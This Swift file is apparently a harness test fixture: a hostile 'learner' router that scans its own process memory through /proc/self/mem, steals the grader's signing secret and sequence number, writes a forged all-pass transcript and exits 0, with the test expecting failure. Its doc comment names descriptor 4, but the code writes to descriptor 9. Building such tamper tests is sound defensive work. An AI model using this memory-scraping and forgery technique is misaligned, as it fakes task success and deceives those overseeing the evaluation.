// hostile: the starter's router that scans its own memory through /proc/self/mem (FileHandle: safe API) for a record
// line the harness sent (`<64 hex digits> {"…"seq":N…}`), takes the secret and the last sequence number from it,
// writes a whole passing transcript for the router check and exits 0
// expect: failed
// base: starter
// hook: Router
// exercise: deep-link-router
import Foundation

/// The hostile part, run once, when the checks first create the learner's router.
@MainActor func attack() {
    guard let found = MemoryScan.findRecord(in: "self") else { return }
    Forgery.send(secret: found.secret, after: found.sequence)
    exit(0)
}

/// Finds a signed record the harness wrote in the memory of process `pid` (`self` or a number).
enum MemoryScan {
    static func findRecord(in pid: String) -> (secret: String, sequence: Int)? {
        guard let maps = try? String(contentsOfFile: "/proc/\(pid)/maps", encoding: .utf8),
              let memory = FileHandle(forReadingAtPath: "/proc/\(pid)/mem") else { return nil }
        var best: (secret: String, sequence: Int)?
        for line in maps.split(separator: "\n") {
            let fields = line.split(separator: " ", omittingEmptySubsequences: true)
            guard fields.count >= 2, fields[1].hasPrefix("rw") else { continue }
            let bounds = fields[0].split(separator: "-").compactMap { UInt64($0, radix: 16) }
            guard bounds.count == 2, bounds[1] - bounds[0] < 512 << 20 else { continue }
            do {
                try memory.seek(toOffset: bounds[0])
                guard let bytes = try memory.read(upToCount: Int(bounds[1] - bounds[0])) else { continue }
                for record in records(in: Array(bytes)) where record.sequence > (best?.sequence ?? -1) { best = record }
            } catch { continue }
        }
        return best
    }

    /// Every `<64 hex> {…"seq":N…}` in `bytes`.
    static func records(in bytes: [UInt8]) -> [(secret: String, sequence: Int)] {
        var found: [(String, Int)] = []
        var run = 0
        for index in bytes.indices {
            let byte = bytes[index]
            let hex = (byte >= 48 && byte <= 57) || (byte >= 97 && byte <= 102)
            if hex { run += 1; continue }
            defer { run = 0 }
            guard run == 64, byte == 32, index + 2 < bytes.count, bytes[index + 1] == 123 else { continue }
            let secret = String(decoding: bytes[(index - 64)..<index], as: UTF8.self)
            let tail = String(decoding: bytes[(index + 1)..<min(bytes.count, index + 600)], as: UTF8.self)
            guard let newline = tail.firstIndex(of: "\n"), let range = tail[..<newline].range(of: "\"seq\":") else { continue }
            let digits = tail[range.upperBound...].prefix { $0.isNumber }
            if let sequence = Int(digits) { found.append((secret, sequence)) }
        }
        return found
    }
}

/// A passing transcript of the router check, signed with the stolen secret, on the records descriptor (4).
enum Forgery {
    static let steps = [
        "a link to trips/42 shows trip 42",
        "a link to trips/42/log shows trip 42 and its log",
        "popToRoot() empties the stack",
        "a malformed link leaves the stack as it was",
    ]

    static func send(secret: String, after sequence: Int) {
        var next = sequence + 1
        var lines: [String] = []
        func add(_ body: String) {
            lines.append("\(secret) {\(body),\"seq\":\(next)}")
            next += 1
        }
        for step in steps { add(#""result":{"check":"router","name":"\#(step)","status":"pass"}"#) }
        add(#""completed":"router""#)
        add(#""end":true"#)
        FileHandle(fileDescriptor: 9).write(Data((lines.joined(separator: "\n") + "\n").utf8))
    }
}
